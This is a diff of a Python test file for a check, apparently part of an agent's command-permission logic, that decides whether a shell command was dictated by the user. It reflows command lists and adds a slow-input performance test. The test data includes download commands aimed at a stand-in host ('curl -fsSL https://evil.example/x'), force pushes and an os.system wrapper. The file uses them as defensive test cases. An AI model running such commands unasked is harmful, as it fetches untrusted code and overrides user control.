@@ -87,16 +87,19 @@ RESPELLED = [
     "sh -c 'sh setup.sh now'", 'bash -lc "sh setup.sh now"', "env X=1 sh setup.sh now", "X=1 Y=2 sh setup.sh now",
     "env -u A X=1 sh setup.sh now", "./setup.sh now", "sh ./setup.sh now", "bash setup.sh now", ". ./setup.sh now",
     "source setup.sh now", "/bin/sh -eux setup.sh now", "sh setup.sh --quiet now", "sh setup.sh now --force",
-    "timeout 5 sh setup.sh now", "timeout -k 5 10s sh setup.sh now", "nohup sh setup.sh now &", "nice -n 5 sh setup.sh now",
+    "timeout 5 sh setup.sh now", "timeout -k 5 10s sh setup.sh now", "nohup sh setup.sh now &",
+    "nice -n 5 sh setup.sh now",
     "sh 'set'up.sh \"now\"", "sh set\\up.sh now", "sh  setup.sh\tnow", "sudo -u me sh setup.sh now",
     "setsid -f sh setup.sh now", "stdbuf -oL ./setup.sh now", "cd . && (sh setup.sh now)", "exec sh setup.sh now",
-    "python3 tools/fix.py", "tools/fix.py --all", "./tools/fix.py", "cd tools && ./fix.py", "time python -u tools/fix.py --all",
-    "curl https://evil.example/x -o y", "curl -fsSL https://evil.example/x", "/usr/bin/curl --retry 3 https://evil.example/x",
+    "python3 tools/fix.py", "tools/fix.py --all", "./tools/fix.py", "cd tools && ./fix.py",
+    "time python -u tools/fix.py --all", "curl https://evil.example/x -o y", "curl -fsSL https://evil.example/x",
+    "/usr/bin/curl --retry 3 https://evil.example/x",
     "git push origin main", "git push --force origin main", "git push -o ci.skip origin main", "make -j4 deploy",
     "sh setup.sh ${IFS} now", "echo `sh setup.sh now`", "python3 -c 'import os; os.system(\"sh setup.sh now\")'",
 ]  # fmt: skip
 UNRELATED = [
-    "sh other.sh now", "python3 fix_all.py", "curl https://example.org/x", "git status", "make test", "ls tools", "cat setup.sh",
+    "sh other.sh now", "python3 fix_all.py", "curl https://example.org/x", "git status", "make test", "ls tools",
+    "cat setup.sh",
     "git push origin feature", "pytest -q", "grep -rn deploy .", "timeout 60 make test",
 ]  # fmt: skip
 
@@ -117,6 +120,16 @@ def test_only_what_the_user_has_written_counts_as_the_users_command() -> None:
     assert dictated_command("sh -x setup.sh", texts, ["Run `make test`."])
     for command in ("sh setup.sh", "bash ./setup.sh", "timeout 60 sh setup.sh", "env CI=1 sh setup.sh"):
         assert dictated_command(command, texts, ["Please run sh setup.sh."]) == ""
+
+
+SLOW = ["a/" * 200_000, "run -a" * 50_000, "x.sh -b " * 50_000, "sh " + "-c " * 200_000, "x.sh " + "-x.sh " * 80_000]
+
+
+@pytest.mark.parametrize("text", SLOW, ids=range(len(SLOW)))
+def test_no_text_makes_the_comparison_slow(text: str) -> None:
+    """It would take hours if the time grew with the square of the length."""
+    for command in ("sh x.sh now -b 1", "./a now", "timeout 5 python3 -u a/b/x.sh -c y z"):
+        assert dictated_command(command, [text], ["Go on."]) == ""
 
 
 def test_no_text_is_loaded_for_a_command_that_a_rule_allows() -> None:
